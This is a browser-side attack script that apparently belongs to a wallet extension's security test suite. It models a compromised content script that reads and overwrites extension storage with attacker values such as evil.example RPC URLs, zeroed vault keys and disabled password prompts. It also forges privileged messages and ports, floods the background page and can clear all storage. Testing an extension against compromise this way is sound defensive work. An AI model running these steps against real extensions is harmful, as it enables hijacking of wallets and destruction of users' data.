// @ts-nocheck It runs in the browser, against an API that is not meant for it.
/**
 * The attack of a page that has compromised its renderer, and with it the content script. It runs in the extension's
 * isolated world and tries every storage area, message, port and page of the extension. compromised.ts appends this
 * script to content.js; the attack starts when the page posts 'attack', and posts back what it received.
 */
window.addEventListener('message', async ({ data }) => {
  if (data?.attack === undefined) return
  const { names, copies, methods, account, connected, flood } = data.attack
  const { browser, chrome } = globalThis
  const api = browser ?? chrome
  const PATIENCE = 1_500
  const received = []
  let attempts = 0
  const note = (what, value) => received.push([what, value === undefined ? null : value])
  const within = promise => Promise.race([promise, new Promise(resolve => setTimeout(resolve, PATIENCE))])

  /** Runs one attempt and records its result or error. */
  const attempt = async (what, act) => {
    attempts++
    try {
      note(what, await act())
    } catch (error) {
      note(what, `refused: ${error}`)
    }
  }

  /** Like `attempt`, but gives up waiting after `PATIENCE` ms. */
  const attemptWithin = (what, act) => attempt(what, () => within(act()))

  const evil = {
    sites: [{ origin: location.origin, accounts: [account], since: 1 }],
    'rpc-urls': { 1: 'https://evil.example', 8217: 'https://evil.example' },
    safety: { asksPassword: false, allowsUnreadable: true },
    'chain-id': 1,
    'vault-key': '00'.repeat(32),
    'settings-key': '00'.repeat(32),
    'auto-lock': 1440,
  }
  const storage = async writes => {
    for (const area of ['local', 'session', 'sync', 'managed']) {
      await attempt(`${area} level`, () =>
        api.storage[area].setAccessLevel({ accessLevel: 'TRUSTED_AND_UNTRUSTED_CONTEXTS' }),
      )
      await attempt(`${area} all`, () => api.storage[area].get(null))
      await attempt(`${area} size`, () => api.storage[area].getBytesInUse(null))
      for (const name of names) {
        await attempt(`${area} get ${name}`, () => api.storage[area].get(name))
        if (writes)
          await attempt(`${area} set ${name}`, () =>
            api.storage[area].set({ [name]: copies[name] ?? evil[name] ?? [] }),
          )
      }
    }
  }
  const destroy = async () => {
    for (const area of ['local', 'session', 'sync', 'managed']) {
      for (const name of names) await attempt(`${area} remove ${name}`, () => api.storage[area].remove(name))
      await attempt(`${area} clear`, () => api.storage[area].clear())
    }
  }

  /** Opens a port, posts messages on it, and records the responses. */
  const port = (name, messages) =>
    attempt(`port ${name}`, async () => {
      const opened = api.runtime.connect({ name })
      const answers = []
      const closed = new Promise(resolve => opened.onDisconnect.addListener(resolve))
      const all = new Promise(resolve =>
        opened.onMessage.addListener(message => answers.push(message) === messages.length && resolve()),
      )
      for (const message of messages) opened.postMessage(message)
      await within(Promise.race([closed, all]))
      opened.disconnect()
      return answers
    })
  const forged = { origin: connected, url: api.runtime.getURL('popup.html'), tab: null, frameId: 0 }
  const sender = { ...forged, id: api.runtime.id }
  const calls = methods.map(([method, params], id) => ({ id: String(id), method, params, ...forged, sender }))

  /** Sends all messages at once, because any of them may stay unanswered until the timeout. */
  const messages = async () => {
    const names = ['ui', 'relay-sockets', 'sockets', 'offscreen', 'tending', 'background', '', 'UI', 'ui ', 'page']
    const ports = names.map(name => port(name, name === 'page' ? calls : calls.map((call, id) => ({ ...call, id }))))
    const sent = [
      { order: 'open', name: 'evil', url: 'wss://evil.example' },
      { order: 'send', name: 'evil', text: '{}' },
      { news: 'received', name: 'wss://relay.example', text: '{}' },
      { state: { phase: 'unlocked' } },
      ...calls,
    ].map(message =>
      attemptWithin(`message ${message.order ?? message.news ?? message.method}`, () =>
        api.runtime.sendMessage(message),
      ),
    )
    await Promise.all([...ports, ...sent])
  }

  const platform = async () => {
    for (const part of ['scripting', 'tabs', 'windows', 'alarms', 'offscreen', 'permissions', 'cookies'])
      await attempt(part, () => Object.keys(api[part]))
    const files = ['popup.html', 'approval.html', 'settings.html', 'onboarding.html', 'background.js', 'manifest.json']
    await Promise.all([
      attemptWithin('databases', () => indexedDB.databases()),
      attemptWithin('caches', () => caches.keys()),
      attempt('views', () => api.extension.getViews()),
      attemptWithin('background', () => api.runtime.getBackgroundPage()),
      ...files.map(path => attemptWithin(`fetch ${path}`, async () => (await fetch(api.runtime.getURL(path))).status)),
      attempt('frame', async () => {
        const frame = Object.assign(document.createElement('iframe'), { src: api.runtime.getURL('popup.html') })
        document.body.append(frame)
        await new Promise(resolve => setTimeout(resolve, PATIENCE / 2))
        return frame.contentDocument?.body?.textContent ?? null
      }),
    ])
  }

  const floods = async () => {
    for (let at = 0; at < flood; at++) {
      attempts++
      const opened = api.runtime.connect({ name: at % 2 === 0 ? 'ui' : 'page' })
      opened.onMessage.addListener(message => note('flood', message))
      for (const call of calls.slice(0, 3)) opened.postMessage({ ...call, id: `${at} ${call.id}` })
      opened.disconnect()
    }
  }

  await storage(data.attack.writes)
  await Promise.all([messages(), platform()])
  await floods()
  if (data.attack.destroys) await destroy()
  window.postMessage({ attacked: { attempts, received: JSON.stringify(received) } }, '*')
})
